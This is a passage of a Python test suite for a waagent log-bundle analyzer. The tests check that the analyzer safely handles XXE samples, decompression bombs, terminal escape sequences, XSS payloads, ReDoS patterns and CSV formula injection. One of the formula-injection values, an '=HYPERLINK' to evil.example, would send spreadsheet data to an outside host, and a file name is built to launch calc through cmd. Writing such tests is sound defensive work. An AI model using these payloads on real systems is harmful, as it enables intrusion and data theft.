    run = ws.analyze(ws.write("outer.tar", nested))
    run.assert_bounded(wall=WALL, memory=150 * MiB)
    assert run.rc == 0
    run.problem_for("outer.tar!var/log/inner.tar.xz",
                    "skipped: xz memory requirement exceeds limit 64 MiB")


@row("row32")
def _row32(ws: Workspace) -> None:
    run = ws.analyze(ws.write("empty.tgz", b""))
    run.assert_bounded(wall=WALL)
    assert run.rc == 3 and "empty.tgz: empty input" in run.stderr


@row("row32-no-files")
def _row32_no_files(ws: Workspace) -> None:
    empty_tar = ws.write("empty.tar", b"\0" * 10240)
    other = ws.write("other.tgz", gzip_bytes(tar_of(tar_file("etc/hostname", b"vm1\n"))))
    for path in (empty_tar, other):
        run = ws.analyze(path)
        run.assert_bounded(wall=WALL)
        assert run.rc == 3 and "rejected" in run.stderr, run


# == 33-36: XML and secrets =====================================================================


class _Listener:
    """A loopback TCP server that records every connection attempt (none may come)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()




@row("row33")
def _row33(ws: Workspace) -> None:
    server = _Listener()
    try:
        secret = ws.root / "secret.txt"
        secret.write_text(SECRET_MARKER + "\n")
        samples = hostile_xml_samples(secret, f"http://127.0.0.1:{server.port}")
        names = {k: f"var/lib/waagent/GoalState.{i + 2}.xml" for i, k in enumerate(samples)}
        path = ws.write("case.tgz", gzip_bytes(tar_of(
            *(tar_file(names[k], v) for k, v in samples.items()),
            tar_file("var/log/waagent.log", BENIGN_LOG))))
        runs = all_outputs(ws, path, tables=("goal_states", "files"))
        for kind in ENTITY_SAMPLES:
            runs["json"].problem_for(f"case.tgz!{names[kind]}",
                                     "XML with DOCTYPE/entities is not accepted")
        for name, run in runs.items():
            assert SECRET_MARKER not in run.stdout + run.stderr, name
        assert server.accepted == 0, "the analyzer connected to the loopback listener"
    finally:
        server.close()


@row("row34")
def _row34(ws: Workspace) -> None:
    docs = {
        "depth": b"<GoalState>" + b"<a>" * 300 + b"</a>" * 300 + b"</GoalState>",
        "text_node": b"<GoalState><Incarnation>" + b"A" * (12 * MiB) + b"</Incarnation>"
                     b"</GoalState>",
        "flat_32mib": b"<GoalState>" + b"<a/>" * (8 * MiB) + b"</GoalState>",
        "nul": b"<GoalState><Incarnation>a\x00b</Incarnation></GoalState>",
        "bad_utf8": b"<GoalState><Incarnation>\xff\xfe</Incarnation></GoalState>",
        "lying_encoding": '<?xml version="1.0" encoding="ISO-8859-1"?><GoalState><Incarnation>'
                          "caf\u00e9</Incarnation></GoalState>".encode(),
    }
    names = {k: f"var/lib/waagent/GoalState.{i + 2}.xml" for i, k in enumerate(docs)}
    path = write_gzip(ws.inputs / "case.tgz", [
        *(tar_file(names[k], v) for k, v in docs.items()),
        tar_file("var/log/waagent.log", failing_log()), tar_end()])
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}  # other files analysed
    expect = {
        "depth": "invalid XML: Excessive depth in document",
        "text_node": "invalid XML: Resource limit exceeded: Text node too long",
        "flat_32mib": "skipped: declared size 32 MiB exceeds document limit 16 MiB",
        "nul": "invalid XML: Invalid character: Char 0x0 out of allowed range",
        "bad_utf8": "invalid XML: bytes are not valid utf-8",
    }
    for kind, message in expect.items():
        run.problem_for(f"case.tgz!{names[kind]}", message)
    # The lying declaration is honoured (Latin-1 decoding of UTF-8 bytes: mojibake, no error).
    assert not any(m == f"case.tgz!{names['lying_encoding']}" for m, _ in run.problems)


@row("row35", pytest.mark.slow)
def _row35(ws: Workspace) -> None:
    """UTF-16 with BOM parses. Gzip bytes named .xml: the walker decides compression by
    magic and inflates *any* gzip member itself, bounded by the 16 MiB document cap (a
    deviation from the checklist's "invalid XML": libxml2 never sees compressed input, and a
    gzip bomb named GoalState.xml stops at the cap)."""
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?><GoalState><Incarnation>7</Incarnation>'
             "</GoalState>").encode("utf-16")
    bomb = write_gzip(ws.root / "bomb.gz", [b"<GoalState><Incarnation>", Zeros(40 * MiB)])
    path = ws.write("case.tar", tar_of(
        tar_file("var/lib/waagent/GoalState.7.xml", utf16),
        tar_file("var/lib/waagent/GoalState.9.xml",
                 gzip_bytes(b"<GoalState><Incarnation>9</Incarnation></GoalState>")),
        tar_file("var/lib/waagent/GoalState.10.xml", bomb.read_bytes())))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 0
    assert not any(m.endswith("GoalState.7.xml") for m, _ in run.problems), run.problems
    run.problem_for("case.tar!var/lib/waagent/GoalState.10.xml",
                    "truncated: decompressed size exceeds document limit 16 MiB")
    table = ws.run_cli("parse", path, "--table", "goal_states", "--format", "json")
    incarnations = {r["member"].rsplit("/", 1)[1]: r["incarnation"] for r in
                    json.loads(table.stdout)}
    assert incarnations["GoalState.7.xml"] == "7"


SECRET = "TOPSECRET-8c1f"


@row("row36", pytest.mark.slow)
def _row36(ws: Workspace) -> None:
    ext = (
        '<?xml version="1.0" encoding="utf-8"?><Extensions goalStateIncarnation="3"><Plugins>'
        '<Plugin name="Microsoft.Azure.RecoveryServices.VMSnapshotLinux" version="1.0.9225.0" '
        'state="enabled" isJson="true"/></Plugins><PluginSettings><Plugin name="Microsoft.Azure.'
        'RecoveryServices.VMSnapshotLinux" version="1.0.9225.0"><RuntimeSettings seqNo="5">'
        '{"runtimeSettings":[{"handlerSettings":{"protectedSettingsCertThumbprint":"F6AB",'
        f'"protectedSettings":"{SECRET}-PROT","publicSettings":{{"commandToExecute":"snapshot",'
        f'"password":"{SECRET}-PUB","url":"https://a.blob.core.windows.net/c/b?sv=1&amp;'
        f'sig={SECRET}-SIG"}}}}}}]}}</RuntimeSettings></Plugin></PluginSettings>'
        '<StatusUploadBlob statusBlobType="BlockBlob">https://md.blob.core.windows.net/$system/'
        f"vm.status?sv=2018-03-28&amp;sr=b&amp;sig={SECRET}-BLOB</StatusUploadBlob></Extensions>"
    )
    ovf = ('<?xml version="1.0"?><Environment xmlns="http://schemas.dmtf.org/ovf/environment/1">'
           "<LinuxProvisioningConfigurationSet><UserName>azureuser</UserName><UserPassword>"
           f"{SECRET}-OVF</UserPassword><CustomData>{SECRET}-CUSTOM</CustomData>"
           "</LinuxProvisioningConfigurationSet></Environment>")
    settings = ('{"runtimeSettings":[{"handlerSettings":{"protectedSettingsCertThumbprint":"F6AB",'
                f'"protectedSettings":"{SECRET}-SETPROT","publicSettings":{{"taskId":"t"}}}}}}]}}')
    log = failing_log() + log_line(
        f"{WIRESERVER_FAILURE} url=https://x.blob.core.windows.net/a?sv=1&sig={SECRET}-LOGSIG "
        f"password={SECRET}-LOGPW", 40, "WARNING")
    path = ws.write("case.tgz", gzip_bytes(tar_of(
        tar_file("var/lib/waagent/ExtensionsConfig.3.xml", ext.encode()),
        tar_file("var/lib/waagent/ovf-env.xml", ovf.encode()),
        tar_file("var/lib/waagent/Microsoft.Azure.RecoveryServices.VMSnapshotLinux-1.0.9225.0/"
                 "config/5.settings", settings.encode()),
        tar_file("var/log/waagent.log", log))))
    runs = all_outputs(ws, path, tables=("files", "records", "extensions", "goal_states",
                                         "config"))
    for name, run in runs.items():
        assert SECRET not in run.stdout + run.stderr, name
    assert runs["json"].rc == 1
    assert not runs["json"].problems, runs["json"].problems  # the documents parsed
    assert runs["json"].files["case.tgz!var/lib/waagent/ovf-env.xml"]["kind"] == "secret"
    assert "<redacted>" in runs["csv:records"].stdout


# == 37-40: output sinks ========================================================================

HOSTILE_TEXT = {
    "csi": "\x1b[2J\x1b[H",
    "osc_title": "\x1b]0;pwned\x07",
    "osc52": "\x1b]52;c;ZXZpbA==\x07",
    "osc8": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "c1": "\u009b31m",
    "cr": "real-error\rOK",
    "bidi": "\u202egnp.exe",
}


def _hostile_log(texts: list[str]) -> bytes:
    """Failure records carrying ``texts`` first (so they are among the evidence every report
    shows), then the usual failures, then a raw (non-UTF-8) C1 byte."""
    lines = BENIGN_LOG
    for i, text in enumerate(texts):
        lines += log_line(f"{WIRESERVER_FAILURE} {text}", 5 + i, "WARNING")
    lines += failing_log()[len(BENIGN_LOG):]
    return lines + b"2024-01-31T10:45:00.000000Z WARNING ExtHandler ExtHandler raw C1 \x9b2J\n"


@row("row37")
def _row37(ws: Workspace) -> None:
    order = ["bidi", "csi", "osc8", "osc_title", "osc52", "c1", "cr"]
    path = ws.write("case.tar", tar_of(tar_file("var/log/waagent.log",
                                                _hostile_log([HOSTILE_TEXT[k] for k in order]))))
    runs = all_outputs(ws, path)
    for run in runs.values():
        no_raw_controls(run.stdout)
    # Evidence shows the escapes instead.
    for sink in ("text", "markdown", "html"):
        for visible in ("\\u202egnp.exe", "\\x1b[2J\\x1b[H", "\\x1b]8;;https://evil.example"):
            assert visible in runs[sink].stdout, (sink, visible)
    csv_text = runs["csv:records"].stdout
    for visible in ("\\x1b[2J\\x1b[H", "\\x1b]0;pwned\\x07", "\\x1b]52;c;", "\\x9b31m",
                    "real-error\\rOK", "\\u202egnp.exe", "raw C1 \\x9b2J"):
        assert visible in csv_text, visible


@row("row38")
def _row38(ws: Workspace) -> None:
    markup = "[link=https://evil.example]x[/link] [bold red]FAKE[/]"
    path = ws.write("case.tar", tar_of(tar_file("var/log/waagent.log", _hostile_log([markup]))))
    runs = all_outputs(ws, path)
    assert markup in " ".join(runs["text"].stdout.split())  # printed literally (maybe wrapped)
    assert "\x1b]8" not in runs["text"].stdout and "\x1b" not in runs["text"].stdout
    assert any(markup in e["text"] for e in runs["json"].report["findings"][0]["evidence"])


@row("row39")
def _row39(ws: Workspace) -> None:
    payloads = ["</td><script>alert(1)</script>", '"><img src=x onerror=alert(2)>',
                "<svg/onload=alert(3)>"]
    path = ws.write("case.tar", tar_of(
        tar_file("var/log/waagent.log", _hostile_log(payloads)),
        tar_file("var/log/<script>alert(4)</script>.log", b"x\n")))
    runs = all_outputs(ws, path)
    html = runs["html"].stdout
    from lxml import html as lxml_html

    tree = lxml_html.fromstring(html)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        for attribute, value in element.attrib.items():
            assert not attribute.lower().startswith("on"), (element.tag, attribute)
            assert not value.strip().lower().startswith("javascript:"), (element.tag, value)
        assert element.tag.lower() not in ("iframe", "object", "embed", "base", "form")
        if element.tag.lower() == "img":
            assert element.get("src", "").startswith("data:"), element.attrib
    scripts = tree.findall(".//script")
    assert all("alert(" not in (s.text or "") for s in scripts)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;script&gt;alert(4)&lt;/script&gt;" in html
    assert "Content-Security-Policy" in html


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
            "\tTAB", "\rCR"]


@row("row40")
def _row40(ws: Workspace) -> None:
    log = b"".join(b"2024-01-31T10:%02d:00.000000Z INFO ExtHandler ExtHandler " % i
                   + text.encode() + b"\n" for i, text in enumerate(FORMULAS))
    path = ws.write("=HYPERLINK(0).tar", tar_of(tar_file("var/log/waagent.log", log),
                                                tar_file("=cmd|' /C calc'!A0.log", b"x\n")))
    for table in ("records", "files"):
        run = ws.run_cli("parse", path, "--table", table, "--format", "csv")
        assert run.rc == 0, run
        run.assert_bounded(wall=WALL)
        rows = list(csv.reader(io.StringIO(run.stdout)))
        assert len(rows) > 1
        for cells in rows[1:]:
            for cell in cells:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0")), cells
    records = list(csv.reader(io.StringIO(
        ws.run_cli("parse", path, "--table", "records", "--format", "csv").stdout)))
    header = records[0]
    messages = [r[header.index("message")] for r in records[1:]]
    assert messages[0] == "'" + FORMULAS[0]
    assert messages[-1] == "'\\rCR"


# == 41-50: rules, lines, encodings, time =======================================================


def custom_rule(rule_id: str, pattern: str, condition: str = "hit") -> str:
    return f'''id = "{rule_id}"
title = "custom rule {rule_id}"
category = "network"
severity = "high"
description = "test rule"
message = "custom hit {{count}}"
condition = "{condition}"

[remediation]
en = "none"
pt-BR = "nenhuma"

[checks.hit]
kind = "log"
pattern = \'\'\'{pattern}\'\'\'

[[tests]]
name = "fires"
expect = ["{rule_id}"]
[tests.files]
"var/log/waagent.log" = \'\'\'
2024-01-01T00:00:00.000000Z INFO ExtHandler ExtHandler aaa
\'\'\'

[[tests]]
name = "quiet"
expect = []
[tests.files]
"var/log/waagent.log" = \'\'\'
2024-01-01T00:00:00.000000Z INFO ExtHandler ExtHandler zzz!
\'\'\'
'''


def rules_dir(ws: Workspace, rules: dict[str, str]) -> Path:
    directory = ws.root / "user-rules" / "custom"
    directory.mkdir(parents=True, exist_ok=True)
    for rule_id, text in rules.items():
        (directory / f"{rule_id}.toml").write_text(text)
    return directory.parent


@row("row41")
def _row41(ws: Workspace) -> None:
    """Backreferences/lookaround are rejected at load with a path:line:col message (RE2 cannot
    run them in linear time), and so is ``^(\\w+\\s?)*$`` (RE2 would run it linearly, but it
    matches the empty string); a broken user rule is reported on stderr and the analysis still
    runs with the others."""
    directory = rules_dir(ws, {
        "CUST-001": custom_rule("CUST-001", r"^(\w+\s?)*$"),
        "CUST-002": custom_rule("CUST-002", r"(a)\1"),
        "CUST-003": custom_rule("CUST-003", r"a(?=b)"),
        "CUST-004": custom_rule("CUST-004", r"(?<!x)aaa"),
    })
    run = ws.run_cli("rules", "validate", directory)
    run.assert_bounded(wall=WALL)
    assert run.rc == 2, run
    for rule_id, detail in (("CUST-002", "invalid escape sequence: \\1"),
                            ("CUST-003", "invalid perl operator: (?="),
                            ("CUST-004", "invalid perl operator: (?<")):
        expected = (rf"custom/{rule_id}\.toml:\d+:\d+: pattern not accepted by the linear-time "
                    r"regex engine \(RE2: no backreferences or lookaround\): " + re.escape(detail))
        assert re.search(expected, run.stderr), run
    # Accepted by RE2 (linear) but it matches the empty string, i.e. every record: refused.
    assert re.search(r"custom/CUST-001\.toml:\d+:\d+: pattern matches the empty string",
                     run.stderr), run
    (directory / "custom" / "CUST-001.toml").unlink()
    (directory / "custom" / "CUST-005.toml").write_text(custom_rule("CUST-005", r"aaa \w+"))
    path = ws.write("case.tar", tar_of(tar_file("var/log/waagent.log", failing_log()
                                                + log_line("aaa bbb", 50))))
    run = ws.analyze(path, "--rules", directory)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1
    assert run.stderr.count("rule error:") == 3, run.stderr
    assert {"WAA-NET-001", "CUST-005"} <= set(findings(run))


@row("row41-hostile-line")
def _row41_hostile_line(ws: Workspace) -> None:
    """The checklist's ``"a"*30000 + "!"`` against a user rule with ``(\\w+\\s?)*`` next to a
    rule with a short literal: 50 such lines (1.5 MB) must not take more than a few seconds."""
    directory = rules_dir(ws, {"CUST-001": custom_rule("CUST-001", r"^(\w+\s?)*$"),
                               "CUST-005": custom_rule("CUST-005", "aaa")})
    hostile = log_line("a" * 30_000 + "!", 30) * 50
    path = ws.write("case.tar", tar_of(tar_file("var/log/waagent.log", BENIGN_LOG + hostile)))
    run = ws.analyze(path, "--rules", directory, timeout=40)
    run.assert_bounded(wall=8)
    assert run.rc == 1 and "CUST-005" in findings(run)
    assert "CUST-001" in run.stderr  # rejected at load: it matches the empty string


@row("row42")
def _row42(ws: Workspace) -> None:
    nested = "(" * 100_000 + "x" + ")" * 100_000
    path = ws.write("case.tar", tar_of(tar_file("var/log/waagent.log", failing_log(
        suffix=" " + nested))))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    # The one pyparsing grammar (rule conditions): deep nesting is a rule error, not a crash.
    for depth, message in ((600, "condition nested too deeply"),
                           (5000, "condition longer than 2000 characters")):
        directory = rules_dir(ws, {"CUST-006": custom_rule("CUST-006", "aaa",
                                                           "(" * depth + "hit" + ")" * depth)})
        run = ws.run_cli("rules", "validate", directory)
        run.assert_bounded(wall=WALL)
        assert run.rc == 2 and message in run.stderr, run


@row("row43")
def _row43(ws: Workspace) -> None:
    """A 1 GiB line without newline in a rotated log (1 MB gzip): bounded memory, the earlier
    records analysed; with the defaults the expansion-ratio budget stops the member."""
    head = failing_log() + log_line(WIRESERVER_FAILURE + " ", 50, "WARNING")[:-1]
    bomb = write_gzip(ws.root / "line.gz", [head, Zeros(1 << 30, b"A")]).read_bytes()
    name = "var/log/waagent.log-2025-01-01-1735689600.gz"
    run = ws.analyze(ws.write("case.tar", tar_of(tar_file(name, bomb))))
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and findings(run)["WAA-NET-001"] >= 8
    run.problem_for(f"case.tar!{name}", "stopped: possible decompression bomb")
    # The line cap itself, on a 4 MiB line: first 64 KiB kept, flagged truncated_line.
    long_line = head + b"A" * (4 * MiB) + b"\n" + log_line("after the long line", 59)
    records = json_records(ws, ws.write("long.tar", tar_of(tar_file("var/log/waagent.log",
                                                                    long_line))))
    cut = [r for r in records if "truncated_line" in r["flags"]]
    assert len(cut) == 1 and len(cut[0]["message"]) <= 64 * 1024
    assert records[-1]["message"] == "after the long line"


@row("row44")
def _row44(ws: Workspace) -> None:
    garbage = os.urandom(20_000)
    path = ws.write("case.tar", tar_of(
        tar_file("var/log/waagent.log", BENIGN_LOG + b"\0" * 5000
                 + log_line("after a NUL run", 8) + failing_log()[len(BENIGN_LOG):]),
        tar_file("var/log/azure/Microsoft.X/events/1234.tld", garbage),
        tar_file("var/log/azure/Microsoft.X/extension.log", b"\x00\x01\x02\x03\xff\xfe" * 999)))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    assert run.files["case.tar!var/log/azure/Microsoft.X/events/1234.tld"]["kind"] == "other"
    records = json_records(ws, path)
    assert any("nul_bytes" in r["flags"] for r in records
               if r["member"] == "case.tar!var/log/waagent.log")


@row("row44-binary-skip")
def _row44_binary_skip(ws: Workspace) -> None:
    path = ws.write("case.tar", tar_of(tar_file("var/log/azure/Microsoft.X/CommandExecution.log",
                                                os.urandom(20_000))))
    run = ws.analyze(path)
    # Its only log could not be read: nothing was checked, so no verdict, but the reason.
    assert run.rc == 3, run
    assert "nothing readable" in run.stderr and "skipped: binary data" in run.stderr, run


@row("row45")
def _row45(ws: Workspace) -> None:
    """Latin-1 bytes, invalid UTF-8 and literal backslash escapes inside matching records:
    decoded losslessly, shown escaped, and the rules still match the ASCII parts."""
    lines = b"".join(
        b"2024-01-31T10:%02d:00.000000Z WARNING ExtHandler ExtHandler " % (10 + i)
        + WIRESERVER_FAILURE.encode() + b" caf\xe9 \xff\xfe literal \\xe9\n" for i in range(8))
    path = ws.write("enc.tar", tar_of(tar_file("var/log/waagent.log", BENIGN_LOG + lines)))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert not run.problems, run.problems
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    text = ws.run_cli("analyze", path).stdout
    assert "caf\\xe9 \\xff\\xfe literal \\xe9" in text


@row("row45-bom")
def _row45_bom(ws: Workspace) -> None:
    path = ws.write("bom.tar", tar_of(tar_file("var/log/waagent.log",
                                               b"\xef\xbb\xbf" + failing_log())))
    records = json_records(ws, path)
    assert records[0]["timestamp"] == "2024-01-31T10:00:00Z", records[0]


@row("row46", pytest.mark.slow)
def _row46(ws: Workspace) -> None:
    base = failing_log() + (b"2024-01-31T10:30:00.000000Z ERROR ExtHandler ExtHandler Traceback "
                            b"(most recent call last):\n  File \"x.py\", line 1\nValueError: x\n")
    variants = {
        "lf.tar": ("var/log/waagent.log", base),
        "crlf.tar": ("var/log/waagent.log", base.replace(b"\n", b"\r\n")),
        "no-newline.tar": ("var/log/waagent.log", base[:-1]),
        "cut.tar": ("truncated_var_log_waagent.log", base[17:]),
        "cr.tar": ("var/log/waagent.log", base.replace(b"\n", b"\r")),
    }
    paths = {k: ws.write(k, tar_of(tar_file(*v))) for k, v in variants.items()}
    records = {k: json_records(ws, p) for k, p in paths.items()}

    def key(items: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
        return [(r["line"], r["timestamp"], r["level"], r["message"]) for r in items]

    assert key(records["crlf.tar"]) == key(records["lf.tar"])
    assert key(records["no-newline.tar"]) == key(records["lf.tar"])
    assert "no_trailing_newline" in records["no-newline.tar"][-1]["flags"]
    assert "first_line_cut" in records["cut.tar"][0]["flags"]
    assert key(records["cut.tar"])[1:] == key(records["lf.tar"])[1:]
    # Lone CR is data, not a line break: one line, shown escaped.
    assert len(records["cr.tar"]) == 1 and "\r" in records["cr.tar"][0]["message"]
    for name in ("lf.tar", "crlf.tar", "no-newline.tar", "cut.tar"):
        run = ws.analyze(paths[name])
        run.assert_bounded(wall=WALL)
        assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}, name
    text = ws.run_cli("analyze", paths["cr.tar"], "--format", "text")
    assert text.rc == 0 and "\r" not in text.stdout


TIME_LINES = [
    b"2024-01-31T11:00:00.000000Z INFO ExtHandler ExtHandler an hour later\n",
    b"2024-01-31T10:00:01.000000Z INFO ExtHandler ExtHandler back one hour\n",
    b"2021/03/30 19:35:35.971742 INFO Daemon Azure Linux Agent Version:2.2.45\n",
    b"2025-02-30T10:00:00.000000Z WARNING ExtHandler ExtHandler impossible date\n",
    b"2024-13-45T99:99:99.000000Z WARNING ExtHandler ExtHandler nonsense\n",
]
YEAR_ONE = b"0001-01-01T00:00:00.000000Z WARNING ExtHandler ExtHandler year one\n"
FAR_FUTURE = (b"9999-12-31T23:59:59.999999Z WARNING ExtHandler ExtHandler "
              + WIRESERVER_FAILURE.encode() + b"\n")


@row("row47", pytest.mark.slow)
def _row47(ws: Workspace) -> None:
    path = ws.write("time.tar", tar_of(tar_file("var/log/waagent.log",
                                                b"".join(TIME_LINES) + failing_log())))
    runs = all_outputs(ws, path, tables=("records", "agent", "files"))
    assert runs["json"].rc == 1 and findings(runs["json"]) == {"WAA-NET-001": 8}
    assert "Rule errors" not in runs["text"].stdout, runs["text"]  # every rule evaluated
    records = json_records(ws, path)
    flagged = {r["line"]: r["flags"] for r in records}
    assert "bad_timestamp" in flagged[4] and "bad_timestamp" in flagged[5]
    assert [r["timestamp"] for r in records[:3]] == [
        "2024-01-31T11:00:00Z", "2024-01-31T10:00:01Z", "2021-03-30T19:35:35.971742Z"]


@row("row47-year-9999")
def _row47_year_9999(ws: Workspace) -> None:
    """One forged far-future failure record (extension output can write one) must neither
    crash a renderer nor switch a rule off."""
    for first in (FAR_FUTURE, YEAR_ONE):
        path = ws.write("time.tar", tar_of(tar_file("var/log/waagent.log",
                                                    first + failing_log())))
        runs = {fmt: ws.run_cli("analyze", path, "--format", fmt) for fmt in ("json", "html")}
        assert runs["html"].rc == 1, runs["html"]
        assert "WAA-NET-001" in findings(runs["json"]), runs["json"]


@row("row48")
def _row48(ws: Workspace) -> None:
    log = failing_log()
    path = ws.write("dup.tgz", gzip_bytes(tar_of(
        tar_file("var/log/waagent.log", log),
        tar_file("var/log/waagent.log-2024-01-31-1706695200.gz", gzip_bytes(log)),
        tar_file("truncated_var_log_waagent.log", log[30:]))))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert len(run.files) == 3
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}  # not 24


@row("row49", pytest.mark.slow)
def _row49(ws: Workspace) -> None:
    """A record with 1 000 000 continuation lines is cut at 10 000 (flag truncated_record),
    in bounded memory. Lines that forge agent records inside an extension's [stdout] block
    cannot be told apart from real ones (documented limitation): they become records of
    their own but cannot crash or stall anything."""
    forged = (b"2024-01-31T10:20:00.000000Z INFO ExtHandler [Microsoft.Azure.Extensions."
              b"CustomScript-2.1.13] Command output:\n[stdout]\n2025-01-01T00:00:00.000000Z INFO "
              b"ExtHandler Agent WALinuxAgent-9.9.9.9 restarted\n[stderr]\n")
    many = (b"2024-01-31T10:21:00.000000Z ERROR ExtHandler ExtHandler Traceback (most recent "
            b"call last):\n" + b"  continuation line\n" * 1_000_000)
    body = failing_log() + forged + many
    path = write_gzip(ws.inputs / "forge.tgz", [tar_header("var/log/waagent.log", len(body)),
                                                 body, b"\0" * (-len(body) % 512), tar_end()])
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    records = json_records(ws, path)
    last = records[-1]
    assert "truncated_record" in last["flags"]
    assert last["message"].count("\n") <= 10_001 and last["end_line"] > 1_000_000
    assert any(r["message"].startswith("Command output:") for r in records)


@row("row50")
def _row50(ws: Workspace) -> None:
    """A bundle longer to read than the wall-clock budget: stopped, partial report."""
    parts = [tar_file("var/log/waagent.log", failing_log())]
    parts += [tar_file(f"var/log/azure/x/f{i}.log", log_line("tiny", 0)) for i in range(80_000)]
    path = write_gzip(ws.inputs / "many.tgz", [*parts, tar_end()])
    run = ws.run_api(path, wall_seconds=1.0, max_entries=10**7, max_members_read=10**7)
    run.assert_bounded(wall=10)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}, run
    run.problem_for("many.tgz", "stopped: time limit 1 s reached",
                    "the report covers what was read before")
    assert 100 < len(run.files) < 80_001


# -- the parametrised test ------------------------------------------------------------------------


def test_every_checklist_row_has_a_test() -> None:
    assert {f"row{i:02d}" for i in range(1, 51)} <= set(ROWS)


@pytest.mark.parametrize("rid", [pytest.param(r, marks=MARKS[r], id=r) for r in ROWS])
def test_checklist(rid: str, ws: Workspace) -> None:
    ROWS[rid](ws)
